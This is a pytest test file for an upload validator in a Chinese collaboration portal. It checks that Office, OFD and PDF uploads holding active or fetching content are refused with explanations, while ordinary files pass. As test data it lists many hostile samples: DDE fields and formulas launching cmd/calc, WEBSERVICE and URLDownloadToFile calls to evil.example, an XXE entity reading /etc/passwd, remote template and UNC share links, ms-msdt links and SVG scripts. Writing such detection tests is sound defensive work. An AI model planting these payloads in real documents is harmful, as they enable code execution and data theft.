"""Office documents are told by what their parts hold and lead to, never by what those are called."""

import bz2
import gzip
import io
import lzma
import subprocess
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

import docx
import openpyxl
import pytest
from django.core.exceptions import ValidationError
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from collab_portal.lib import uploads
from collab_portal.lib.gongwen import docx as gongwen_docx
from tests.gongwen.samples import NOW, notice
from tests.uploads.samples import OFFICE, RELS, TYPES, Sent, archive, compound, external, office, pdf

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"


@pytest.fixture(autouse=True)
def folder(settings, tmp_path):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    return settings.UPLOAD_DIR


def kept(content: bytes, name: str = "材料.docx") -> bytes:
    file = uploads.keep(Sent(name, content))
    return uploads.path_of(file.key).read_bytes()


def refusal(content: bytes, name: str = "材料.docx") -> str:
    with pytest.raises(ValidationError) as error:
        uploads.keep(Sent(name, content))
    return error.value.messages[0]


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def body(xml: str, **more: bytes | str) -> bytes:
    """A Word document with this in its text."""
    return office(
        **{"word__document.xml": f'<w:document xmlns:w="{WORD}"><w:p>{xml}</w:p></w:document>'}, **more
    )


def run(text: str, kind: str = "instrText") -> str:
    return f"<w:r><w:{kind}>{text}</w:{kind}></w:r>"


def mark(step: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>'


def field(*pieces: str, result: str = "1") -> str:
    """A field whose code lies in so many runs."""
    inner = "".join(piece if piece.startswith("<w:r>") else run(piece) for piece in pieces)
    return mark("begin") + inner + mark("separate") + run(result, "t") + mark("end")


def internal(kind: str, target: str, base: str = OFFICE) -> str:
    return f'<Relationship Id="r9" Type="{base}/{kind}" Target="{target}"/>'


def related(relation: str, kind: str = "docx", **more: bytes | str) -> bytes:
    return office(kind, **{"word___rels__x.rels": RELS.format(relation)}, **more)


FIELDS = {
    "DDE in two runs": (field(" DD", "EAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot; "), "DDEAUTO"),
    "DDE without a blank": (field("DDE&quot;cmd&quot;"), "DDE"),
    "DDE in small letters": (field(" ddeauto cmd "), "DDEAUTO"),
    "DDE over paragraphs": (
        mark("begin") + run("D") + "</w:p><w:p>" + run("DE cmd") + mark("end"),
        "DDE",
    ),
    "DDE as plain text of the code": (mark("begin") + run("DDE cmd", "t") + mark("end"), "DDE"),
    "DDE that never ends": (mark("begin") + run("DDE cmd"), "DDE"),
    "DDE put together by other fields": (field(" ", field("QUOTE 68 68 69"), " cmd"), "由其他域拼成"),
    "half of it by another field": (field(" DD", field("QUOTE 69")), "由其他域拼成"),
    "a field in a field": (field(" IF ", field("DDE cmd"), " = 1 "), "DDE"),
    "the short form": ('<w:fldSimple w:instr=" DDEAUTO cmd "/>', "DDEAUTO"),
    "a picture elsewhere": (field('INCLUDEPICTURE "http://evil.example/i.png" \\d'), "INCLUDEPICTURE"),
    "a text elsewhere": (field("INCLUDETEXT c:\\\\secret.docx"), "INCLUDETEXT"),
    "an old picture": (field("IMPORT c:\\\\a.bmp"), "IMPORT"),
    "a link to a sheet": (field("LINK Excel.Sheet.8 c:\\\\a.xls"), "LINK"),
    "a database": (field("DATABASE \\d x"), "DATABASE"),
    "a button": (field("MACROBUTTON Run click"), "MACROBUTTON"),
    "another document": (field("RD \\\\evil\\a.docx"), "RD"),
    "removed in changes": (mark("begin") + run("DDE cmd", "delInstrText") + mark("end"), "DDE"),
    "a link to a file": (field('HYPERLINK "file:///c:/x.exe"'), "超链接“file:///c:/x.exe”"),
    "a link to a share": (field('HYPERLINK \\l "a" "\\\\\\\\evil\\\\x"'), "超链接"),
}


@pytest.mark.parametrize("case", FIELDS)
def test_a_field_that_fetches_or_runs_is_named_with_a_way_out(case):
    xml, word = FIELDS[case]

    said = refusal(body(xml))

    assert word in said
    assert "Ctrl+Shift+F9" in said or "取消超链接" in said


def test_fields_of_other_parts_are_read_too():
    header = f'<w:hdr xmlns:w="{WORD}"><w:p>{field("DDE cmd")}</w:p></w:hdr>'

    assert "DDE" in refusal(office(word__header1_xml=header))
    assert "DDE" in refusal(office(word__odd_dat=header))
    assert "DDE" in refusal(office(word__odd_dat=header.encode("utf-16")))


XML = f'<w:document xmlns:w="{WORD}"><w:altChunk xmlns:r="{OFFICE}" r:id="r1"/></w:document>'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
HOSTILE = {
    "a piece in another format": (
        related(internal("aFChunk", "/word/a.mht"), word__a_mht="MIME"),
        "altChunk",
    ),
    "its place in the text": (office(**{"word__document.xml": XML}), "altChunk"),
    "a piece, strictly": (related(internal("aFChunk", "a.mht", STRICT)), "altChunk"),
    "an OLE file called .bin": (office(word__x_bin=compound({"VBA": b""})), "OLE"),
    "an OLE file called a picture": (office(word__media__image1_png=compound({"VBA": b""})), "OLE"),
    "a program called a picture": (office(word__media__image1_png=b"MZ\x90"), "程序"),
    "an archive called a picture": (office(word__media__image1_png=archive({"a.exe": "x"})), "其他文件"),
    "a document in a document in a document": (
        office(word__a=office(word__b=office())),
        "其他文件",
    ),
    "DDE in a document in it": (office(word__a=body(field("DDE cmd"))), "DDE"),
    "an object": (related(internal("oleObject", "a.bin")), "OLE"),
    "a package elsewhere": (related(external("http://evil.example/a.xlsx", "package")), "外部"),
    "a control": (related(internal("control", "a.xml")), "控件"),
    "macros": (related(internal("vbaProject", "x.bin")), "宏"),
    "macros of ribbons": (related(internal("ui/extensibility", "x.xml")), "宏"),
    "a document below": (related(external("a.docx", "subDocument")), "子文档"),
    "a frame": (related(external("http://evil.example", "frame")), "框架"),
    "a book elsewhere": (related(internal("externalLink", "a.xml"), "xlsx"), "断开链接"),
    "a connection": (related(internal("connections", "a.xml"), "xlsx"), "数据连接"),
    "DDE of a sheet": (office("xlsx", xl__a_xml='<a><ddeLink ddeService="cmd"/></a>'), "断开链接"),
    "a slide that runs": (
        office("pptx", ppt__s_xml='<a><hlinkClick action="ppaction://program?cmd"/></a>'),
        "动作",
    ),
    "a merged letter": (related(external("file:///c:/a.xlsx", "mailMergeSource")), "邮件合并"),
    "a picture elsewhere": (related(external("http://evil.example/i.png", "image")), "外部的图片"),
    "a declaration of a type": (
        office(**{"word__document.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
        "DTD",
    ),
    "the same in a drawing": (office(word__media__a_svg="<!DOCTYPE svg><svg/>"), "DTD"),
    "XML that breaks off": (office(**{"word__document.xml": "<a><b>"}), "结构有异常"),
    "a name twice": (office(word__A_xml="<a/>", word__a_xml="<a/>"), "名称有异常"),
    "a link to a file": (related(external("file:///C:/x.docx", "hyperlink")), "超链接“file:///C:/x.docx”"),
    "a link to a drive": (related(external("C:\\x.exe", "hyperlink")), "超链接"),
    "a link to a share": (related(external("\\\\evil\\x", "hyperlink")), "超链接"),
    "a share that all links begin with": (
        office(docProps__app_xml="<Properties><HyperlinkBase>\\\\evil\\x</HyperlinkBase></Properties>"),
        "超链接基础",
    ),
    "a drawing that fetches": (
        office(word__a_xml='<pict xmlns:v="v"><v:imagedata src="http://evil.example/i.png"/></pict>'),
        "外部的图片",
    ),
    "a drawing that leads to a program": (
        office(word__a_xml='<pict xmlns:v="v"><v:shape href="file:///c:/x.exe"/></pict>'),
        "超链接“file:///c:/x.exe”",
    ),
    "a drawing that leads to a share": (
        office(word__a_xml='<pict xmlns:v="v"><v:shape href="\\\\evil\\x"/></pict>'),
        "超链接",
    ),
    "a picture of lines that fetches": (
        office(word__a_svg=SVG.format('<image xlink:href="http://evil.example/i.png"/>')),
        "外部的图片",
    ),
    "its styles that fetch": (
        office(word__a_svg=SVG.format("<style>@import 'http://evil.example/a.css';</style>")),
        "外部的图片",
    ),
    "its colours that fetch": (
        office(word__a_svg=SVG.format('<rect fill="url(http://evil.example/a.svg#b)"/>')),
        "外部的图片",
    ),
    "its script": (office(word__a_svg=SVG.format("<script>alert(1)</script>")), "脚本"),
    "its script at a click": (office(word__a_svg=SVG.format('<rect onclick="alert(1)"/>')), "脚本"),
    "an address behind an empty one": (body(field('HYPERLINK "" "file:///c:/x.exe"')), "超链接"),
    "a link that runs": (related(external(" java&#10;script:alert(1)", "hyperlink")), "超链接"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_what_acts_fetches_or_hides_is_named(case):
    content, word = HOSTILE[case]
    name = "材料" + (".xlsx" if b"xl/workbook" in content else ".pptx" if b"ppt/pres" in content else ".docx")

    assert word in refusal(content, name)


def sheet(formula: str) -> bytes:
    """A workbook in which something is calculated."""
    cell = f"<row><c><f>{escape(formula)}</f></c></row>"
    return office("xlsx", xl__sheet1_xml=f"<worksheet><sheetData>{cell}</sheetData></worksheet>")


REACHING = {
    'WEBSERVICE("http://evil.example/"&A2)': "WEBSERVICE",
    '_xlfn.WEBSERVICE("http://evil.example/")': "WEBSERVICE",
    'IF(A1,webservice ("http://evil.example/"))': "WEBSERVICE",
    '_xlfn._xlws.IMAGE("http://evil.example/x.png")': "IMAGE",
    'RTD("x.y",,"a")': "RTD",
    "cmd|'/c calc'!A0": "DDE",
    "1+'cmd'|'/c calc'!A0": "DDE",
    'DDE("cmd";"/c calc";"x")': "DDE",
    'CALL("urlmon","URLDownloadToFileA")': "CALL",
    'EXEC("calc")': "EXEC",
    "_xll.Fetch(A1)": "_XLL.FETCH",
    "'\\\\evil\\x\\[a.xlsx]S'!A1": "断开链接",
    "'http://evil.example/[a.xlsx]S'!A1": "断开链接",
    "'C:\\x\\[a.xlsx]S'!A1": "断开链接",
    'HYPERLINK("file:///c:/windows/system32/calc.exe","看")': "HYPERLINK 指向“file:///",
    'HYPERLINK("\\\\evil\\x")': "HYPERLINK 指向",
    'HYPERLINK("fi"&"le:///c:/x")': "HYPERLINK 指向",
    'HYPERLINK(IF(A1,"https://www.gov.cn/","file:///c:/x"))': "HYPERLINK 指向“file:///c:/x”",
    'HYPERLINK("ms-msdt:/id")': "HYPERLINK 指向",
    "1+" * 40_000: "过长",
}


@pytest.mark.parametrize("formula", REACHING, ids=lambda formula: formula[:40])
def test_a_formula_that_fetches_runs_or_opens_is_named_with_a_way_out(formula):
    said = refusal(sheet(formula), "统计.xlsx")

    assert REACHING[formula] in said
    assert "选择性粘贴 → 数值" in said or "断开链接" in said


@pytest.mark.parametrize("element", ["definedName", "formula", "formula1", "x:f", "calculatedColumnFormula"])
def test_it_is_named_wherever_a_workbook_calculates(element):
    space = {"xl__a_xml": f'<a xmlns:x="x"><{element}>cmd|&apos;/c calc&apos;!A0</{element}></a>'}

    assert "DDE" in refusal(office("xlsx", **space), "统计.xlsx")


def test_a_name_that_runs_when_a_book_opens_is_refused():
    names = '<definedNames><definedName name="_xlnm.Auto_Open">S!A1</definedName></definedNames>'

    assert "宏" in refusal(office("xlsx", **{"xl__workbook.xml": names}), "统计.xlsx")


CALCULATING = (
    *(
        "SUM(A1:B2)",
        "SUM(Sheet1:Sheet3!A1)",
        "'一月 1:三月 2'!A1",
        "SUM(A:A)/2",
        "[0]!人次",
        "表1[甲|乙]+S!A1",
    ),
    *(
        'IF(A1="a|b!","\\\\x","file:///c:/")',
        'TEXT(A1,"yyyy:mm")&"//"',
        "VLOOKUP(A1,'[图表]Sheet1'!$A:$B,2,)",
    ),
    *('HYPERLINK("https://www.gov.cn/?d="&TEXT(A1,"hh:mm"),"Note: 官网")', 'HYPERLINK("#表!A1","返回")'),
    *('HYPERLINK("mailto:"&A1)', "HYPERLINK(A2)", 'HYPERLINK("附件/1.docx")', '"WEBSERVICE("', "IMAGES(1)"),
)


@pytest.mark.parametrize("formula", CALCULATING)
def test_a_formula_that_calculates_or_links_to_the_web_passes(formula):
    content = sheet(formula)

    assert kept(content, "统计.xlsx") == content


OTHERS = {
    "a PDF with a script": (pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "PDF"),
    "a PDF behind a line": (b"x\n" + pdf(), "PDF"),
    "a packed file (rar)": (b"Rar!\x1a\x07\0", "压缩包"),
    "a packed file (7z)": (b"7z\xbc\xaf\x27\x1c", "压缩包"),
    "a packed file (gzip)": (gzip.compress(b"MZ"), "压缩包"),
    "a packed file (xz)": (lzma.compress(b"MZ"), "压缩包"),
    "a packed file (bzip2)": (bz2.compress(b"MZ"), "压缩包"),
    "a packed file (cab)": (b"MSCF\0\0\0\0", "压缩包"),
    "a text with an object": (b"{\\rtf1\\object\\objdata}", "RTF"),
    "the same behind blanks": (b" \r\n{\\RT\\object}", "RTF"),
    "a way to a program": (b"L\0\0\0\x01\x14\x02\0", "快捷方式"),
    "a way to a share": (b"[InternetShortcut]\r\nURL=file://evil/x", "快捷方式"),
    "a page": (b"<html><body>x</body></html>", "网页"),
    "a page as mail": (b"MIME-Version: 1.0\r\n", "网页"),
    "a book of help": (b"ITSF\3\0\0\0", "CHM"),
    "a script of a shell": (b"#!/bin/sh\n", "程序"),
}


@pytest.mark.parametrize("name", ["word__embeddings__a_dat", "word__media__image1_png"])
@pytest.mark.parametrize("case", OTHERS)
def test_another_file_within_a_document_is_named(case, name):
    content, word = OTHERS[case]

    assert word in refusal(office(**{name: content}))


@pytest.mark.parametrize("name", ["Doc_0/Attachs/a.pdf", "Doc_0/Res/a.dat"])
def test_another_file_within_the_national_format_is_named(name):
    assert "PDF" in refusal(archive({"OFD.xml": "<ofd/>", name: pdf()}), "公文.ofd")


@pytest.mark.parametrize("target", ["file:///c:/x.exe", "\\\\evil\\x"])
def test_the_national_format_leads_nowhere_either(target):
    action = f'<d><Action Event="DO"><URI URI="{target}"/></Action></d>'

    assert "超链接" in refusal(archive({"OFD.xml": "<ofd/>", "Doc_0/Document.xml": action}), "公文.ofd")


def test_a_metafile_may_be_packed_as_office_packs_it():
    content = office(**{"word__media__image1.emz": gzip.compress(b"\x01\0\0\0\x6c\0\0\0" + bytes(99))})

    assert kept(content) == content
    assert "压缩包" in refusal(office(**{"word__media__image1.emz": gzip.compress(b"MZ" + bytes(99))}))


def between(content: bytes, more: bytes) -> bytes:
    """``more`` between the parts and their directory, which is told where it stands now."""
    start = content.index(b"PK\x01\x02")
    moved = content[:start] + more + content[start:]
    end = moved.rindex(b"PK\5\6")
    return moved[: end + 16] + (start + len(more)).to_bytes(4, "little") + moved[end + 20 :]


MACROS = office(word__vbaProject_bin="x")
PADDED = {
    "macros before it": MACROS + office(),
    "a program before it": b"PK\3\4" + b"MZ" * 500 + office(),
    "a program behind it": office() + b"MZ" * 500,
    "a line behind it": office() + b"\n",
    "a program in its remark": office()[:-2] + b"\4\0MZMZ",
    "a program between its parts": between(office(), b"MZ" * 500),
    "a PDF around it": archive({"%PDF-1.4 x": "x", **parts(office())}),
}


@pytest.mark.parametrize("case", PADDED)
def test_what_lies_before_behind_or_between_is_refused(case):
    assert "夹带了其他内容" in refusal(PADDED[case])


def streamed() -> bytes:
    """As a program writes it that cannot go back: sums behind the parts."""

    class Stream(io.RawIOBase):
        def __init__(self) -> None:
            self.content = b""

        def writable(self) -> bool:
            return True

        def write(self, content) -> int:
            self.content += bytes(content)
            return len(content)

    target = Stream()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts(office()).items():
            made.writestr(name, content)
    return target.content


LINKS = (
    *("https://www.gov.cn/", "http://a.example/?a=b#c", "mailto:a@example.cn", "tel:+862588888888"),
    *("#目录", "附件1.docx", "../2026/纪要.docx", "", "第一章：总则.docx"),
)


@pytest.mark.parametrize("target", LINKS)
def test_a_link_to_the_web_a_person_or_beside_the_file_passes(target):
    content = related(external(target, "hyperlink"))

    assert kept(content) == content


PLAIN_FIELDS = (
    *(
        " PAGE ",
        " NUMPAGES \\* MERGEFORMAT ",
        ' TOC \\o "1-3" \\h \\z \\u ',
        " DATE \\@ &quot;yyyy年M月d日&quot; ",
    ),
    *(" SEQ 表 \\* ARABIC ", ' HYPERLINK \\l "_Toc1" ', ' HYPERLINK "https://www.gov.cn" \\o "file:提示" '),
    *(
        ' HYPERLINK "tel:02588888888" ',
        " REF _Ref1 \\h ",
        " FORMTEXT ",
        " = 1 + 2 ",
        " ADDIN EN.CITE ",
        "TOC",
    ),
)


@pytest.mark.parametrize("code", PLAIN_FIELDS)
def test_a_field_that_counts_or_points_passes(code):
    inner = field(code, result="x</w:t></w:r>" + field(" PAGEREF _Toc1 \\h ") + "<w:r><w:t>")
    content = body(inner + f'<w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}"/>')

    assert kept(content) == content


TEMPLATES = (
    "file:///C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Templates\\公文.dotx",
    "http://evil.example/t.dotm?a=1&amp;b=2",
    "\\\\evil\\share\\t.dotm",
)
SETTINGS = (
    f'<?xml version="1.0"?><w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:zoom w:percent="100"/>'
    "{}<w:compat> a &amp; b </w:compat><!-- x --></w:settings>"
)


@pytest.mark.parametrize("target", TEMPLATES)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "element", ['<w:attachedTemplate r:id="r1"/>', '<w:attachedTemplate r:id="r1"> </w:attachedTemplate>']
)
def test_the_link_to_a_template_is_taken_out_and_nothing_else(target, encoding, element):
    link = '<Relationship Id="r2" Type="x/theme" Target="theme.xml"/>'
    more = {"word__x_bin": bytes(range(256)), "word__styles_xml": "<a> &lt; </a>"}

    def made(relation: str, inner: str) -> bytes:
        settings = SETTINGS.format(inner).replace('"1.0"', f'"1.0" encoding="{encoding}"').encode(encoding)
        relations = f'<?xml version="1.0" encoding="{encoding}"?>{RELS.format(link + relation + link)}'
        return office(
            **{"word__settings.xml": settings, "word___rels__settings.xml.rels": relations.encode(encoding)},
            **more,
        )

    stored = kept(made(external(target), element))

    assert parts(stored) == parts(made("", ""))
    assert list(parts(stored)) == list(parts(made("", "")))


def test_the_document_without_its_template_still_opens():
    document = docx.Document()
    document.add_paragraph("正文")
    settings = document.settings.element
    template = OxmlElement("w:attachedTemplate")
    template.set(
        qn("r:id"),
        document.part._settings_part.relate_to("file:///C:/t.dotx", f"{OFFICE}/attachedTemplate", True),
    )
    settings.insert(0, template)
    target = io.BytesIO()
    document.save(target)

    stored = docx.Document(io.BytesIO(kept(target.getvalue())))

    assert [paragraph.text for paragraph in stored.paragraphs] == ["正文"]
    assert not stored.part._settings_part.rels


def of_word() -> bytes:
    """By a real library from Word's own template, with page numbers, a table and a link."""
    document = docx.Document()
    document.add_heading("关于开展联合主题党日的通知", 1)
    paragraph = document.add_paragraph("联系电话")
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), document.part.relate_to("tel:02588888888", f"{OFFICE}/hyperlink", is_external=True))
    paragraph._p.append(link)
    footer = document.sections[0].footer.paragraphs[0]._p
    for kind, text in (("begin", ""), ("", " PAGE "), ("separate", ""), ("end", "")):
        part = OxmlElement("w:r")
        inner = OxmlElement("w:fldChar" if kind else "w:instrText")
        if kind:
            inner.set(qn("w:fldCharType"), kind)
        inner.text = text or None
        part.append(inner)
        footer.append(part)
    document.add_table(3, 3)
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def of_excel() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["单位", "人次"])
    book.active.append(["示例", "=SUM(1,2)"])
    book.active["A2"].hyperlink = "https://www.gov.cn/"
    chart = openpyxl.chart.BarChart()
    chart.add_data(openpyxl.chart.Reference(book.active, min_col=2, min_row=1, max_row=2))
    book.active.add_chart(chart)
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def with_chart() -> bytes:
    """Numbers of a chart are a workbook of its own, as Word and PowerPoint write them."""
    numbers = internal("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx")
    return office(
        "pptx",
        **{
            "ppt__charts___rels__chart1.xml.rels": RELS.format(numbers),
            "ppt__embeddings__Microsoft_Excel_Sheet1.xlsx": of_excel(),
            "ppt__printerSettings__printerSettings1.bin": "HP".encode("utf-16-le"),
        },
    )


HONEST = {
    "通知.docx": of_word,
    "公文.docx": lambda: gongwen_docx.write(notice().layout(), NOW),
    "统计.xlsx": of_excel,
    "汇报.pptx": with_chart,
    "严格.xlsx": lambda: office("xlsx", rels=internal("officeDocument", "xl/workbook.xml", STRICT)),
    "插图.docx": lambda: office(
        word__a_svg=SVG.format(
            '<style>.a{fill:url(#b)}</style><a href="https://www.gov.cn/"><use xlink:href="#b"/></a>'
            '<image xlink:href="data:image/png;base64,AA=="/><rect style="fill:url(#b)"/>'
        )
    ),
    "流式写出.docx": streamed,
    "空白部件.docx": lambda: office(word__empty_xml=""),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_document_is_kept_as_it_was_sent(name):
    content = HONEST[name]()

    assert kept(content, name) == content


@pytest.mark.parametrize(
    ("written", "ending"),
    [("docx", "docx"), ("docx", "doc"), ("docx", "odt"), ("docx", "pdf")],
)
def test_what_another_office_program_writes_is_kept_or_told(written, ending, tmp_path, soffice):
    source = tmp_path / f"a.{written}"
    source.write_bytes({"docx": of_word, "xlsx": of_excel}[written]())
    content = soffice(source, ending)

    if ending in {"docx", "xlsx", "pdf"}:
        assert kept(content, f"a.{ending}") == content
    elif ending == "doc":
        assert refusal(content, "a.doc") == "这是“旧版 Word 或 WPS 文字文档”，请另存为 DOCX 后再传。"
        assert kept(content, "a.wps") == content
    else:
        assert refusal(content, "a.odt") == "这是“OpenDocument 文字文档（ODT）”，请另存为 DOCX 后再传。"


@pytest.fixture
def soffice(tmp_path):
    def convert(source: Path, ending: str) -> bytes:
        profile = f"-env:UserInstallation=file://{tmp_path}/profile"
        command = ["soffice", profile, "--headless", "--convert-to", ending, "--outdir", str(tmp_path / "to")]
        subprocess.run([*command, str(source)], check=True, capture_output=True, timeout=110)
        return (tmp_path / "to" / f"{source.stem}.{ending}").read_bytes()

    return convert


def test_types_with_macros_are_refused():
    macro = '<Override PartName="/x" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'

    assert "宏" in refusal(
        archive({**parts(office("xlsx")), "[Content_Types].xml": TYPES.format(macro)}), "a.xlsx"
    )
